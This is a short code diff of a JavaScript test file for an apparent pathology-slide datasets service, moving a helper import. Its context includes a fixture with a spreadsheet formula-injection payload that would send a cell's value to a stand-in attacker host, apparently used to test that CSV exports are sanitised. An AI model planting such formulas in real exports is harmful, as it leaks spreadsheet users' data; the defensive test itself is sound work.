@@ -16,11 +16,10 @@ import { promisify } from 'node:util';
 import test from 'ava';
 import { parse } from 'csv-parse/sync';
 import { createDatasetsService } from '../../server/datasets/index.js';
-import { makeSlide } from '../../server/wsi/generate/index.js';
 import { bearerHeaders, Client, signedIn } from '../support/accounts.js';
 import { startTestApp } from '../support/app.js';
 import { testDialect } from '../support/database.js';
-import { registerSlide } from '../support/slides.js';
+import { makeSlide, registerSlide } from '../support/slides.js';
 
 const FORMULAS = {
   pathology_info: '=HYPERLINK("https://evil.example/?"&A1,"details")',
